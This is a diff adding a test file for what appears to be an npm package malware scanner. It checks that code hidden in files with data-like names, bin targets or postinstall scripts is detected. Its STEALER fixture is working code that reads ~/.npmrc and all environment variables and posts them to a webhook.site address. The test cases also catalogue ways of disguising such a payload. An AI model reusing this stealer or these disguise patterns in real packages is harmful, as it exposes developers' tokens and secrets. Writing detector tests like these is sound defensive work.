@@ -1,0 +1,151 @@
+import { describe, expect, it } from 'vitest';
+import { CODE_CHECKS } from '../../src/checks/code-checks.js';
+import { runChecks } from '../../src/checks/run.js';
+import { atLeast } from '../../src/severity.js';
+import { contextOf, type PackageSpec } from '../helpers/package-builder.js';
+
+/** Reads ~/.npmrc and the environment and posts them: what each renamed file below carries. */
+const STEALER = [
+  "const fs = require('fs');",
+  "const os = require('os');",
+  "const token = fs.readFileSync(os.homedir() + '/.npmrc', 'utf8');",
+  "fetch('https://webhook.site/6f1c2a', { method: 'POST', body: token + JSON.stringify(process.env) });",
+  '',
+].join('\n');
+
+function findings(spec: PackageSpec) {
+  const ctx = contextOf(spec);
+  return { ctx, found: runChecks(ctx, CODE_CHECKS, []) };
+}
+
+function readAsCode(spec: PackageSpec): string[] {
+  return contextOf(spec)
+    .code.js.map((file) => file.path)
+    .sort();
+}
+
+describe('files Node runs as JavaScript whatever their name', () => {
+  it.each<[string, PackageSpec, string]>([
+    [
+      "require('./lib/palette.dat') (CommonJS reads an unknown extension as .js)",
+      {
+        files: { 'index.js': "module.exports = require('./lib/palette.dat');\n", 'lib/palette.dat': STEALER },
+      },
+      'lib/palette.dat',
+    ],
+    [
+      "require(path.join(__dirname, 'lib', 'palette.dat'))",
+      {
+        files: {
+          'index.js': "const path = require('path');\nrequire(path.join(__dirname, 'lib', 'palette.dat'));\n",
+          'lib/palette.dat': STEALER,
+        },
+      },
+      'lib/palette.dat',
+    ],
+    [
+      // biome-ignore lint/suspicious/noTemplateCurlyInString: the template is the code under test
+      'require(`${__dirname}/../shared/theme.cfg`) from a subfolder',
+      {
+        files: {
+          // biome-ignore lint/suspicious/noTemplateCurlyInString: the template is the code under test
+          'lib/index.js': 'require(`${__dirname}/../shared/theme.cfg`);\n',
+          'shared/theme.cfg': STEALER,
+        },
+        manifest: { main: 'lib/index.js' },
+      },
+      'shared/theme.cfg',
+    ],
+    [
+      'a required file with no extension and no shebang',
+      { files: { 'index.js': "require('./lib/loader');\n", 'lib/loader': STEALER } },
+      'lib/loader',
+    ],
+    [
+      'a chain: a renamed file requiring another from its own folder',
+      {
+        files: {
+          'index.js': "require('./lib/a.cfg');\n",
+          'lib/a.cfg': "require('../assets/b.txt');\n",
+          'assets/b.txt': STEALER,
+        },
+      },
+      'assets/b.txt',
+    ],
+    [
+      'the manifest main, named with a data extension',
+      { manifest: { main: 'core.bin' }, files: { 'core.bin': STEALER } },
+      'core.bin',
+    ],
+    [
+      'a bin target without a JavaScript extension',
+      {
+        manifest: { bin: { colors: './cli/run.cfg' } },
+        files: { 'cli/run.cfg': `#!/usr/bin/env node\n${STEALER}` },
+      },
+      'cli/run.cfg',
+    ],
+    [
+      'a file an install script hands to node',
+      {
+        manifest: { scripts: { postinstall: 'node --no-warnings ./scripts/setup.cfg || true' } },
+        files: { 'index.js': 'module.exports = 1;\n', 'scripts/setup.cfg': STEALER },
+      },
+      'scripts/setup.cfg',
+    ],
+  ])('%s is read, and its theft found there', (_label, spec, carrier) => {
+    const { found } = findings(spec);
+    const serious = found.filter((finding) => atLeast(finding.severity, 'high'));
+    expect(serious.map((finding) => finding.location?.file)).toContain(carrier);
+  });
+
+  it('leaves alone what Node does not run as code: styles imported for a bundler, JSON, addons, binaries', () => {
+    const spec: PackageSpec = {
+      manifest: { main: 'dist/index.cjs', module: 'dist/index.mjs' },
+      files: {
+        'dist/index.mjs': "import './styles.css';\nimport icons from './icons.svg';\nexport { icons };\n",
+        'dist/index.cjs': [
+          "const data = require('./data.json');",
+          "const addon = require('./build/Release/addon.node');",
+          "const missing = require('./not-shipped.dat');",
+          'module.exports = { data, addon, missing };',
+          '',
+        ].join('\n'),
+        'dist/styles.css': '.icon:before{content:"\\e900"}',
+        'dist/icons.svg': '<svg xmlns="http://www.w3.org/2000/svg"><path d="M0 0h24v24H0z"/></svg>',
+        'dist/data.json': '{"curl": "https://example.com"}',
+        'dist/build/Release/addon.node': '\u007fELF\u0002\u0001\u0001',
+      },
+    };
+    expect(readAsCode(spec)).toEqual(['dist/index.cjs', 'dist/index.mjs']);
+  });
+
+  it('a bin whose shebang names another interpreter is not read as JavaScript', () => {
+    const spec: PackageSpec = {
+      manifest: { bin: { 'kit-setup': 'bin/setup.sh' } },
+      files: {
+        'index.js': 'module.exports = 1;\n',
+        'bin/setup.sh': '#!/bin/sh\nset -e\necho "configuring $HOME/.kitrc"\n',
+      },
+    };
+    expect(readAsCode(spec)).toEqual(['index.js']);
+    expect(findings(spec).found.filter((finding) => atLeast(finding.severity, 'medium'))).toEqual([]);
+  });
+
+  it('a CommonJS build that requires its stylesheet (bundler-only output) raises nothing from the CSS read as code', () => {
+    const css = [
+      '@font-face{font-family:"kit-icons";src:url(./fonts/kit.woff2) format("woff2")}',
+      '.kit-icon-add:before{content:"\\e900"}.kit-icon-close:before{content:"\\e901"}',
+      '.kit-btn{background:url(https://cdn.example.com/kit/bg.png);color:#333}',
+    ].join('');
+    const spec: PackageSpec = {
+      manifest: { main: 'lib/index.js' },
+      files: {
+        'lib/index.js': "require('./index.css');\nexports.Button = function Button() { return null; };\n",
+        'lib/index.css': css.repeat(40),
+      },
+    };
+    expect(readAsCode(spec)).toEqual(['lib/index.css', 'lib/index.js']);
+    expect(findings(spec).found.filter((finding) => atLeast(finding.severity, 'low'))).toEqual([]);
+  });
+});
